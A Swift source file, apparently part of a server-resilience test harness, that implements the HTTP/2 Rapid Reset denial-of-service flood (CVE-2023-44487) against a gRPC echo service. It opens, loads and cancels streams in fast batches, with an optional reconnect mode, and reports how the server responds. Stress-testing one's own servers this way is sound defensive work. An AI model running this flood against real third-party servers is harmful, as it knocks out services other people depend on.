import Glibc
import PalisadeEcho

/// `rapid-reset` / `rapid-reset-reconnect` (CVE-2023-44487): open a stream, start an expensive
/// call on it, cancel it at once, next stream — as fast as the socket takes it, never reading.
///
/// Each stream is HEADERS (`Echo/Pull`), DATA with a Pull request for 1,000 × 1,000 bytes
/// (END_STREAM), then RST_STREAM(CANCEL). The concurrent-stream limit never bites because every
/// stream is closed by the time the next one opens, so only a reset rate limit stops this. The
/// attacker reads nothing until the server closes (or the deadline), then reads what the server
/// said, to report the GOAWAY code and how long the server took.
struct RapidResetAttack: BlockingAttacker {
    /// Reconnect whenever the server closes, for the whole period (`rapid-reset-reconnect`).
    let reconnect: Bool

    /// Streams per batch handed to the socket in one write (~4 KiB).
    private static let streamsPerBatch = 32

    /// Floods until the deadline; at most 500,000 streams per connection in short mode.
    func attack(_ context: AttackContext) -> AttackReport {
        var report = AttackReport()
        let block = HPACKBlock.request(path: "/\(EchoService.service)/Pull", tls: context.usesTLS).bytes
        let pull = H2Frames.grpcMessage(EchoService.pullRequest(count: 1000, size: 1000))
        // Stream ids are 31 bits; stay well inside them and inside a loop bound.
        let maxStreamsPerConnection = context.bound(full: 2_000_000, short: 500_000)
        let maxConnections = context.bound(full: 20_000, short: 500)
        while !context.isOver, report.connections.count < maxConnections {
            guard let connection = context.openConnection(recordingFailureIn: &report) else {
                if !reconnect { break }
                continue
            }
            var next: UInt32 = 1
            var sent = 0
            let end = connection.flood(
                until: context.deadline, maxBatches: maxStreamsPerConnection / Self.streamsPerBatch,
                reading: false
            ) { batch in
                for _ in 0..<Self.streamsPerBatch {
                    H2Frames.appendHeaders(stream: next, fragment: block, endStream: false, endHeaders: true, to: &batch)
                    H2Frames.appendData(stream: next, payload: pull, endStream: true, to: &batch)
                    H2Frames.appendRstStream(stream: next, code: H2Code.cancel, to: &batch)
                    next += 2
                    sent += 1
                }
                return true
            }
            connection.drain()
            report.streamsSent += sent
            report.record(connection, cut: end == .deadline)
            connection.close()
            if !reconnect { break }
        }
        return report
    }
}
